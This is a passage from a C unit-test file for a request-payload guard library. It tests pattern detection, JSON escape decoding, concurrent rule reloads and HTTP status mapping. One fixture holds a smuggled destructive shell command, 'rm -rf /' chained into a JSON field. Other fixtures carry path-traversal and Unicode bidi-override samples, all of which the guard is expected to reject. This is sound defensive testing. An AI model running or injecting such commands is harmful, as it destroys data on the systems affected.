    cairn_guard_result_t r = CAIRN_GUARD_RESULT_INIT;
    const char *both = "alpha beta alpha";
    assert_int_equal(check_bin(g, both, strlen(both), &r), 0);
    /* Single-match: each id once, however often it matches. */
    assert_int_equal(r.nflagged, 2);
    assert_true(flagged_has(&r, "f1") && flagged_has(&r, "f2"));
    char msg[256];
    cairn_guard_result_format(&r, msg, sizeof msg);
    assert_non_null(strstr(msg, "2 pattern(s) flagged"));
    assert_int_equal(check_bin(g, "alpha gamma", 11, &r),
                     CAIRN_EGUARD_PATTERN);
    assert_string_equal(r.pattern_id, "r1");
    cairn_guard_result_format(&r, msg, sizeof msg);
    assert_non_null(strstr(msg, "'r1' (severity high)"));
    /* A clean payload resets the flags. */
    assert_int_equal(check_bin(g, "delta", 5, &r), 0);
    assert_int_equal(r.nflagged, 0);
    cairn_guard_result_free(&r);
    cairn_guard_close(g);
}

static void patterns_json_escapes_decoded(void **state)
{
    cairn_guard_t *g = open_guard(NULL);
    cairn_guard_result_t r = CAIRN_GUARD_RESULT_INIT;
    /* RLO written as a JSON escape. */
    assert_int_equal(check_json(g, "{\"name\":\"abc\\u202Efed\"}", &r),
                     CAIRN_EGUARD_PATTERN);
    assert_string_equal(r.pattern_id, "unicode.bidi-override");
    /* "..\/" is "../" once decoded. */
    assert_int_equal(check_json(g, "{\"p\":\"..\\/..\\/x\"}", &r),
                     CAIRN_EGUARD_PATTERN);
    assert_string_equal(r.pattern_id, "path.traversal");
    /* A tag character as a surrogate pair. */
    assert_int_equal(check_json(g, "[\"\\uDB40\\uDC41\"]", &r),
                     CAIRN_EGUARD_PATTERN);
    assert_string_equal(r.pattern_id, "unicode.tag");
    /* Ordinary escapes are not matches. */
    assert_int_equal(check_json(g, "{\"q\":\"say \\\"hi\\\"\\n\"}", &r), 0);
    assert_int_equal(check_json(g, sample_json, &r), 0);
    assert_int_equal(r.nflagged, 0);
    /* Compressed JSON is scanned after decoding. */
    const char *evil = "{\"cmd\":\"x; rm -rf /\"}";
    struct buf b = gz(evil, strlen(evil));
    assert_int_equal(cairn_guard_check(g, "t", 1, b.p, b.len,
                                       CAIRN_GUARD_ENC_AUTO,
                                       CAIRN_GUARD_CONTENT_JSON, &r),
                     CAIRN_EGUARD_PATTERN);
    assert_string_equal(r.pattern_id, "shell.chained-command");
    assert_int_equal(cairn_guard_http_status(r.code), 422);
    free(b.p);
    cairn_guard_result_free(&r);
    cairn_guard_close(g);
}

struct reload_reader {
    cairn_guard_t *g;
    atomic_int *stop;
    long checks, bad;
};

static void *reload_reader_main(void *arg)
{
    struct reload_reader *rr = arg;
    cairn_guard_result_t r = CAIRN_GUARD_RESULT_INIT;
    const char *body = "{\"v\":\"alpha beta\"}";
    while (!atomic_load(rr->stop)) {
        int rc = check_json(rr->g, body, &r);
        /* Every set in rotation rejects this body; which id says which
         * set the check ran against, and it must be a whole set. */
        if (rc != CAIRN_EGUARD_PATTERN ||
            (strcmp(r.pattern_id, "a.alpha") != 0 &&
             strcmp(r.pattern_id, "b.beta") != 0))
            rr->bad++;
        rr->checks++;
    }
    cairn_guard_result_free(&r);
    return NULL;
}

static void patterns_reload_concurrent(void **state)
{
    cairn_guard_t *g = open_plain();
    const char *sa = "a.alpha reject high * literal alpha\n";
    const char *sb = "b.beta reject high * regex be+ta\n"
                     "b.flag flag low * literal zzz\n";
    char err[256];
    assert_int_equal(cairn_guard_reload_patterns_text(g, sa, strlen(sa), "a",
                                                      err, sizeof err),
                     0);
    atomic_int stop = 0;
    struct reload_reader rr[2] = {{g, &stop, 0, 0}, {g, &stop, 0, 0}};
    pthread_t th[2];
    for (int k = 0; k < 2; k++)
        assert_int_equal(pthread_create(&th[k], NULL, reload_reader_main,
                                        &rr[k]),
                         0);
    for (int k = 0; k < 60; k++) {
        const char *s = (k & 1) ? sa : sb;
        assert_int_equal(cairn_guard_reload_patterns_text(g, s, strlen(s),
                                                          "r", err,
                                                          sizeof err),
                         0);
    }
    atomic_store(&stop, 1);
    for (int k = 0; k < 2; k++)
        pthread_join(th[k], NULL);
    assert_int_equal(rr[0].bad + rr[1].bad, 0);
    assert_true(rr[0].checks > 0 && rr[1].checks > 0);
    assert_int_equal(cairn_guard_pattern_count(g), 1); /* ended on sa */
    cairn_guard_close(g);
}

/* ---- messages and statuses ------------------------------------------- */

static void http_status_mapping(void **state)
{
    static const struct {
        int code, status;
    } m[] = {
        {CAIRN_EGUARD_TOO_LARGE, 413},
        {CAIRN_EGUARD_BOMB_RATIO, 413},
        {CAIRN_EGUARD_BOMB_SIZE, 413},
        {CAIRN_EGUARD_TOO_MANY_LAYERS, 413},
        {CAIRN_EGUARD_WINDOW_TOO_LARGE, 413},
        {CAIRN_EGUARD_UNSUPPORTED_ENCODING, 415},
        {CAIRN_EGUARD_CORRUPT_ENCODING, 400},
        {CAIRN_EGUARD_JSON_DEPTH, 422},
        {CAIRN_EGUARD_JSON_SYNTAX, 422},
        {CAIRN_EGUARD_JSON_STRING, 422},
        {CAIRN_EGUARD_JSON_MEMBERS, 422},
        {CAIRN_EGUARD_JSON_DUPLICATE_KEY, 422},
        {CAIRN_EGUARD_UTF8, 422},
        {CAIRN_EGUARD_PATTERN, 422},
        {CAIRN_EGUARD_PATTERN_COMPILE, 500},
        {CAIRN_EGUARD_PATTERN_FILE, 500},
        {0, 0},
        {CAIRN_EVERSION_CONFLICT, 0},
        {-ENOMEM, 0},
    };
    for (size_t k = 0; k < sizeof m / sizeof m[0]; k++)
        assert_int_equal(cairn_guard_http_status(m[k].code), m[k].status);
}

static void result_format_messages(void **state)
{
    cairn_guard_t *g = open_plain();
    cairn_guard_result_t r = CAIRN_GUARD_RESULT_INIT;
    char msg[256];
    assert_int_equal(check_json(g, "[[[", &r), CAIRN_EGUARD_JSON_SYNTAX);
    cairn_guard_result_format(&r, msg, sizeof msg);
    assert_string_equal(msg, "payload is not valid JSON at byte 3");
    check_bin(g, "BZh91AY", 7, &r);
    cairn_guard_result_format(&r, msg, sizeof msg);
    assert_string_equal(msg, "unsupported compression encoding bzip2 "
                             "(layer 1)");
    check_json(g, "{\"a\":1,\"a\":1}", &r);
    cairn_guard_result_format(&r, msg, sizeof msg);
    assert_string_equal(msg, "JSON object repeats the key at byte 7");
    /* snprintf semantics: the needed length comes back. */
    int need = cairn_guard_result_format(&r, msg, 4);
    assert_int_equal(need, (int)strlen("JSON object repeats the key at byte "
                                       "7"));
    assert_int_equal(strlen(msg), 3);
    cairn_guard_result_free(&r);
    cairn_guard_close(g);
}

static const struct CMUnitTest tests[] = {
    cmocka_unit_test(sniff_magic_bytes),
    cmocka_unit_test(encoding_parse_declared),
    cmocka_unit_test(unsupported_encodings_refused),
    cmocka_unit_test(unsupported_encodings_passthrough),
    cmocka_unit_test(brotli_declared_refused),
    cmocka_unit_test(gzip_roundtrip),
    cmocka_unit_test(zlib_roundtrip),
    cmocka_unit_test(deflate_declared_raw_and_zlib),
    cmocka_unit_test(zstd_roundtrip),
    cmocka_unit_test(gzip_multimember),
    cmocka_unit_test(gzip_zeros_1gib_ratio),
    cmocka_unit_test(gzip_zeros_1gib_size),
    cmocka_unit_test(gzip_bomb_peak_rss),
    cmocka_unit_test(zstd_zeros_ratio),
    cmocka_unit_test(ratio_arithmetic_exact),
    cmocka_unit_test(gzip_inside_gzip),
    cmocka_unit_test(nested_layers_share_budget),
    cmocka_unit_test(zstd_huge_window),
    cmocka_unit_test(zstd_huge_content_size),
    cmocka_unit_test(truncated_streams),
    cmocka_unit_test(corrupt_streams),
    cmocka_unit_test(declared_encoding_mismatch),
    cmocka_unit_test(trailing_garbage),
    cmocka_unit_test(input_too_large),
    cmocka_unit_test(empty_payload),
    cmocka_unit_test(opts_out_of_range),
    cmocka_unit_test(json_valid_documents),
    cmocka_unit_test(json_syntax_errors),
    cmocka_unit_test(json_string_scan_word_boundaries),
    cmocka_unit_test(json_nested_100000_deep),
    cmocka_unit_test(json_depth_limit_exact),
    cmocka_unit_test(json_string_limit),
    cmocka_unit_test(json_members_limit),
    cmocka_unit_test(json_duplicate_keys),
    cmocka_unit_test(json_duplicate_keys_large_object),
    cmocka_unit_test(json_key_table_reset_after_failure),
    cmocka_unit_test(json_surrogate_escapes),
    cmocka_unit_test(utf8_every_class),
    cmocka_unit_test(utf8_exhaustive_against_reference),
    cmocka_unit_test(utf8_in_json_and_text),
    cmocka_unit_test(patterns_default_hit_and_near_miss),
    cmocka_unit_test(patterns_default_all_tested),
    cmocka_unit_test(patterns_builtin_matches_file),
    cmocka_unit_test(patterns_file_errors),
    cmocka_unit_test(patterns_compile_error_names_id),
    cmocka_unit_test(patterns_type_filter),
    cmocka_unit_test(patterns_flag_only),
    cmocka_unit_test(patterns_json_escapes_decoded),
    cmocka_unit_test(patterns_reload_concurrent),
    cmocka_unit_test(http_status_mapping),
    cmocka_unit_test(result_format_messages),
};

CAIRN_TEST_MAIN(tests)
